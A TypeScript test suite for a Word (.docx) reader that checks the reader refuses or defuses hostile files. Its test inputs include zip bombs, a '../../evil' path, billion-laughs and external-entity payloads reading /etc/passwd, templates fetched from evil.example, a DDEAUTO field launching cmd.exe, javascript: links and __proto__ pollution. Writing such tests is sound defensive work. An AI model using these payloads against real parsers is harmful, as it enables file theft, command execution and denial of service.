import { readFileSync } from 'node:fs';
import { deflateSync, strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { inlineText } from '#shared/document/plain-text.ts';
import { readDocx } from '#shared/read/docx/read-docx.ts';
import { LIMITS } from '#shared/read/limits.ts';
import {
  cell,
  docxOfPieces,
  docxParts,
  externalLink,
  field,
  para,
  run,
  styled,
  table,
  type DocxPieces,
} from '#test/support/word/docx-fixtures.ts';
import { handmadeZip, type ZipFile } from '#test/support/word/docx-hostile.ts';
import { lines, messages, reading, refusal } from '#test/support/word/docx-readings.ts';

/** What is wrong with the bytes of a file, by its own words. */
const refused = (bytes: Uint8Array, limits = LIMITS): string => {
  const result = readDocx(bytes, 'offer.docx', limits);
  return result.ok ? 'was read' : `${result.error.place.label}: ${result.error.message}`;
};

const stored = (pieces: DocxPieces | string): ZipFile[] =>
  Object.entries(docxParts(typeof pieces === 'string' ? { body: pieces } : pieces)).map(
    ([name, content]) => ({ name, content }),
  );

const plain = para('Plain words.');
const MB = 1024 * 1024;

describe('hostile Word files, by the numbers of the attack list', () => {
  const small = { ...LIMITS, unpackedBytes: 4 * MB };

  test('1: a zip bomb with honest sizes is refused', () => {
    const bytes = docxOfPieces({
      body: plain,
      parts: { 'word/media/a.png': new Uint8Array(5 * MB) },
    });
    expect(refused(bytes, small)).toMatch(/^offer\.docx: It unpacks to more than 4 MB/);
  });

  test('2: a bomb that declares 1 KB is stopped by counted output', () => {
    const files = stored(plain).filter(({ name }) => name !== 'word/document.xml');
    const content = deflateSync(new Uint8Array(6 * MB).fill(0x20));
    const bomb = { name: 'word/document.xml', method: 8, content, claims: 1024 };
    expect(refused(handmadeZip([...files, bomb]), small)).toMatch(/unpacks to more than/);
  });

  test('3: overlapping entries are refused', () => {
    const files = stored(plain);
    const [first, ...rest] = files;
    expect(refused(handmadeZip([{ ...first!, reaches: 40 }, ...rest]))).toMatch(
      /share the same bytes/,
    );
  });

  test('4: 100,000 entries are refused', () => {
    const many = Array.from({ length: 100_000 }, (_, index) => ({ name: `${index}` }));
    expect(refused(handmadeZip([...stored(plain), ...many]))).toMatch(/more than 10000 files/);
  });

  test('5: a name that leads outside is refused; nothing is ever written', () => {
    expect(refused(handmadeZip([...stored(plain), { name: '../../evil' }]))).toMatch(
      /name leads outside/,
    );
  });

  test('6: two main documents are refused', () => {
    const second = { name: 'word/document.xml', content: '<w:document/>' };
    expect(refused(handmadeZip([...stored(plain), second]))).toMatch(/two files of one name/);
  });

  test('7: an encrypted file and a renamed .doc are named', () => {
    const files = stored(plain).map((file) => ({ ...file, flags: 1 }));
    expect(refused(handmadeZip(files))).toMatch(/protected by a password/);
    expect(refused(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]))).toMatch(/old Word file/);
  });

  test('8: a truncated file gives an error', () => {
    const whole = docxOfPieces({ body: plain });
    for (const part of [0.1, 0.5, 0.9, 0.99])
      expect(refused(whole.subarray(0, Math.floor(whole.length * part)))).toMatch(/cut off/);
  });

  test('9: billion laughs: the document type is refused, in any part', () => {
    const laughs =
      '<!DOCTYPE w:p [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><w:p>&c;</w:p>';
    for (const name of ['word/document.xml', 'word/styles.xml', '_rels/.rels']) {
      const parts = { ...docxParts({ body: plain, styles: '' }), [name]: laughs };
      const bytes = zipSync(
        Object.fromEntries(Object.entries(parts).map(([key, text]) => [key, strToU8(text)])),
      );
      expect(refused(bytes), name).toMatch(/declares a document type/);
    }
  });

  test('10: an external entity reads no file', () => {
    const parts = docxParts({ body: para('§') });
    const document = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${parts['word/document.xml']!.replace('§', '&e;')}`;
    expect(
      refused(
        handmadeZip([
          ...stored(plain).filter(({ name }) => name !== 'word/document.xml'),
          { name: 'word/document.xml', content: document },
        ]),
      ),
    ).toMatch(/declares a document type/);
  });

  test('11: linked pictures are dropped and told', () => {
    const linked = (id: string) => `<w:r><w:drawing><a:blip r:link="${id}"/></w:drawing></w:r>`;
    const result = reading({
      body: para(
        `${run('a')}${linked('x')}${linked('y')}<w:r><w:pict><v:imagedata r:href="z"/></w:pict></w:r>`,
      ),
      relationships:
        externalLink('x', 'image', 'file:///etc/passwd') +
        externalLink('y', 'image', 'file:///dev/zero') +
        externalLink('z', 'image', 'https://tracker.example/p.png'),
    });
    expect(lines(result)).toEqual(['a']);
    expect(messages(result)).toEqual([
      '3 linked pictures were left out; their addresses were not opened.',
    ]);
  });

  test('12: a template and other parts on the network are not fetched', () => {
    const result = reading({
      body: plain,
      settingsRelationships: externalLink('t', 'attachedTemplate', 'https://evil.example/t.dotm'),
      relationships: externalLink('f', 'frame', String.raw`\\evil.example\share`),
    });
    expect(messages(result)).toEqual([
      '1 template on another computer was not opened.',
      '1 other link out of the file was not followed.',
    ]);
  });

  test('12: nothing in the readers can make a request or read a file', () => {
    const sources = ['docx/read-docx.ts', 'docx/parts.ts', 'docx/inlines.ts', 'package/unpack.ts'];
    for (const source of sources)
      expect(readFileSync(`src/shared/read/${source}`, 'utf8')).not.toMatch(
        /\b(?:fetch|XMLHttpRequest|import\(|node:)/,
      );
  });

  test('12: a main document outside of the file is none', () => {
    const parts = docxParts({ body: plain });
    const rels = parts['_rels/.rels']!.replace(
      'Target="word/document.xml"',
      'Target="https://evil.example/d.xml" TargetMode="External"',
    );
    const bytes = handmadeZip([
      ...stored(plain).filter(({ name }) => name !== '_rels/.rels'),
      { name: '_rels/.rels', content: rels },
    ]);
    const result = readDocx(bytes, 'offer.docx');
    expect(result.ok && lines(result.value)).toEqual(['Plain words.']);
  });

  test('13: a javascript: link is its text', () => {
    const result = reading({
      body: para(
        `<w:hyperlink r:id="j">${run('click')}</w:hyperlink> ${field('HYPERLINK "javascript:alert(1)"', run(' here'))}`,
      ),
      relationships: externalLink('j', 'hyperlink', 'javascript:alert(1)'),
    });
    expect(lines(result)).toEqual(['click here']);
    expect(JSON.stringify(result)).not.toContain('javascript');
  });

  test('14: DDE and INCLUDETEXT are what they last showed, and told', () => {
    const result = reading(
      para(field(String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`, run('99.9 %'))) +
        para(
          `<w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; ">${run('terms')}</w:fldSimple>`,
        ),
    );
    expect(lines(result)).toEqual(['99.9 %', 'terms']);
    expect(messages(result)).toEqual([
      '2 fields that fetch from elsewhere (DDEAUTO, INCLUDETEXT) were not followed; the text that they last showed was kept.',
    ]);
    expect(JSON.stringify(result)).not.toContain('cmd.exe');
  });

  test('15: objects, macros, controls and embedded files are dropped and told', () => {
    const result = reading({
      body: `${para(`${run('a')}<w:r><w:object><o:OLEObject Type="Embed" r:id="o"/></w:object></w:r><w:r><w:drawing><a:blip r:embed="p"/></w:drawing></w:r>`)}<w:altChunk r:id="h"/>`,
      parts: {
        'word/vbaProject.bin': strToU8('macro'),
        'word/embeddings/oleObject1.bin': strToU8('object'),
        'word/embeddings/data.xlsx': strToU8('file'),
        'word/activeX/activeX1.bin': strToU8('control'),
      },
    });
    expect(lines(result)).toEqual(['a']);
    expect(messages(result)).toEqual([
      '1 picture was left out.',
      '1 embedded object was left out.',
      '1 embedded file was left out.',
      '1 macro project was left out; nothing of it ran.',
      '1 ActiveX control was left out.',
      '1 part in another format, which Word would insert, was left out.',
    ]);
  });

  test('16: a style, list, note or comment of the name __proto__ pollutes nothing', () => {
    const style = (id: string) =>
      `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="constructor"/><w:pPr><w:outlineLvl w:val="0"/></w:pPr></w:style>`;
    const result = reading({
      body:
        styled('__proto__', 'a') +
        para(
          `${run('b', '<w:rStyle w:val="constructor"/>')}<w:r><w:footnoteReference w:id="__proto__"/></w:r>`,
          '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="__proto__"/></w:numPr>',
        ),
      styles: style('__proto__') + style('toString'),
      comments: `<w:comment w:id="__proto__"><w:p/></w:comment>`,
      numbering: '<w:num w:numId="__proto__"><w:abstractNumId w:val="constructor"/></w:num>',
    });
    expect(lines(result)).toEqual(['heading 1 a', 'b']);
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>)['polluted']).toBe(undefined);
  });

  test('17: 10,000 tables within each other are refused by depth', () => {
    const depth = 10_000;
    const nested =
      '<w:tbl><w:tr><w:tc>'.repeat(depth) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat(depth);
    expect(refusal(nested)).toMatch(/more than 200 deep/);
  });

  test('17: those within the limit are flattened', () => {
    let nested = table([
      ['x', 'y'],
      ['z', 'w'],
    ]);
    for (let depth = 0; depth < 50; depth += 1)
      nested = table([
        [cell(nested), 'b'],
        ['c', 'd'],
      ]);
    const [node] = reading(nested).document.nodes;
    expect(node?.type === 'table' && node.rows.length).toBe(2);
    expect(JSON.stringify(node)).toContain('"x"');
  });

  test('18: tracked changes are listed', () => {
    const body = para(
      `${run('a')}<w:del w:id="1" w:author="A" w:date=""><w:r><w:delText>b</w:delText></w:r></w:del>`,
    );
    expect(reading(body).revisions).toEqual([
      { kind: 'deletion', author: 'A', date: '', text: 'b', source: '/text/0' },
    ]);
  });

  test('34: direction, invisible and look-alike characters are flagged, letters stay', () => {
    const result = reading(
      para('\u202e% 5.99\u202c up') +
        para('99\u200b.9 %') +
        para('The Pr\u043evider') +
        para('Plain – 5 µs “x”'),
    );
    expect(lines(result)).toEqual(['% 5.99 up', '99.9 %', 'The Pr\u043evider', 'Plain – 5 µs “x”']);
    expect(result.notes).toEqual([
      {
        kind: 'flagged',
        message: 'Characters that turn the direction of the text were removed (U+202E, U+202C).',
        source: '/text/0',
      },
      {
        kind: 'flagged',
        message: 'Invisible characters were removed (U+200B).',
        source: '/text/1',
      },
      {
        kind: 'flagged',
        message: '“Pr\u043evider” mixes letters of two alphabets that look alike.',
        source: '/text/2',
      },
    ]);
  });

  test('34: a word that is split over runs is flagged as well, in a cell too', () => {
    const split = `${run('Pr')}${run('\u043e', '<w:b/>')}${run('vider')}`;
    expect(reading(para(split)).notes).toMatchObject([{ kind: 'flagged', source: '/text/0' }]);
    expect(
      reading(
        table([
          ['a', para(split)],
          ['b', 'c'],
        ]),
      ).notes,
    ).toMatchObject([{ kind: 'flagged', source: '/text/0/1/1' }]);
  });
});

describe('and others', () => {
  test('many flags are counted, not listed without end', () => {
    const { notes } = reading(para('a\u200b').repeat(205));
    expect(notes).toHaveLength(201);
    expect(notes.at(-1)?.message).toBe('5 more places of this sort are not listed.');
  });

  test('a package without a document says so', () => {
    expect(refused(zipSync({ 'xl/workbook.xml': strToU8('<workbook/>') }))).toMatch(
      /without a Word document/,
    );
  });

  test.each([
    ['1.', 400_000],
    ['a) ', 599_996],
    ['\t ', 0],
    ['\u0430', 200_000],
    ['\u200b', 0],
  ])('36: a long line of %j is read in step with its length', (piece, length) => {
    expect(inlineTextOf(piece.repeat(200_000))).toBe(length);
  });

  const inlineTextOf = (text: string): number => {
    const [node] = reading(para(run(text, '<w:b/>'))).document.nodes;
    return node !== undefined && 'text' in node ? inlineText(node.text).length : 0;
  };
});
